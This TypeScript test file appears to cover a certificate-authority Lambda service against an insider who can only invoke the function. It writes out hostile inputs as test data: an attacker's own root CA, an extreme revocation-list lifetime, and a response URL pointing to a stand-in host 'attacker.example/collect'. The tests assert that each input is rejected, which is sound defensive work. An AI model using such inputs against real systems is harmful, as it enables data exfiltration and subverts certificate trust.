import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, describe, it } from "node:test";
import { authorityOperator } from "../support/deployed/authority-operator.ts";
import { deployService } from "../support/deployed/deployed-service.ts";
import { provision, publishedBundles } from "../support/deployed/provisioning.ts";
import { openssl, OPENSSL_SKIP, workspace } from "../support/openssl.ts";
import { opensslCa } from "../support/openssl-external-ca.ts";

const service = OPENSSL_SKIP === false ? await deployService() : undefined;

/** Whoever has `lambda:InvokeFunction` and nothing else. */
describe("an insider who may invoke the authority function", { skip: OPENSSL_SKIP }, () => {
  if (service === undefined) return;
  const files = workspace();
  after(async () => {
    await service.close();
    files.remove();
  });
  const { states } = authorityOperator(service);
  const attackersRoot = (): string => readFileSync(opensslCa(files, "attackers-root").rootFile, "utf8");
  /** As `aws lambda invoke` sends it. */
  const invoke = (ResponseURL: string, ResourceProperties: object) =>
    service.functions.authority.invoke({
      RequestType: "Update",
      ResponseURL,
      StackId: "stack",
      RequestId: "request",
      LogicalResourceId: "Authorities",
      PhysicalResourceId: "authorities",
      ResourceProperties,
    });

  before(async () => {
    assert.equal((await provision(service, "Create")).Status, "SUCCESS");
  });

  it("gets no CA of his own into what the fleet trusts", async () => {
    const root = attackersRoot();
    await invoke(`${service.objectStore.url}/response`, {
      ClusterName: "nodeseal",
      KeySpec: "P-256",
      Hierarchy: "external",
      ExternalRoots: root,
      externalCa: { roots: root, issuingCertificates: {} },
    });
    assert.deepEqual(await states(), ["root-g1 active", "issuing-g1 active"]);
    const [line = ""] = root.split("\n").slice(1);
    for (const bundle of publishedBundles(service)) assert.ok(!bundle.includes(line));
  });

  it("gets no revocation list that verifiers would believe for centuries", async () => {
    const event = { act: "reconcile", ResourceProperties: { RevocationListLifetimeSeconds: "9999999999" } };
    await service.functions.authority.invoke(event);
    const answer = (await service.functions["node-api"].invoke({
      version: "2.0",
      routeKey: "GET /v1/crl/{authorityId}",
      rawPath: "/v1/crl/issuing-g1",
      rawQueryString: "",
      headers: {},
      pathParameters: { authorityId: "issuing-g1" },
      requestContext: {
        domainName: "api.example",
        requestId: "1",
        timeEpoch: Date.now(),
        http: { method: "GET", path: "/v1/crl/issuing-g1", sourceIp: "192.0.2.1", protocol: "HTTP/1.1", userAgent: "" },
      },
      isBase64Encoded: false,
    })) as { readonly body: string };
    const list = files.write("list.der", Buffer.from(answer.body, "base64"));
    const text = openssl(["crl", "-inform", "DER", "-noout", "-nextupdate", "-in", list]).toString();
    const days = (Date.parse(text.replace("nextUpdate=", "")) - Date.now()) / 86_400_000;
    assert.ok(days < 2, text);
  });

  it("makes no request to an address of his own, and nothing happens besides", async () => {
    const told = service.objectStore.received.length;
    await assert.rejects(invoke("https://attacker.example/collect", {}), /not CloudFormation's/);
    assert.equal(service.objectStore.received.length, told);
  });

  it("is told that an event of another kind is none", async () => {
    for (const event of [{}, { act: "activate", authorityId: "root-g1" }, { act: "Reconcile" }])
      await assert.rejects(service.functions.authority.invoke(event), /neither CloudFormation's nor the schedule's/);
  });
});
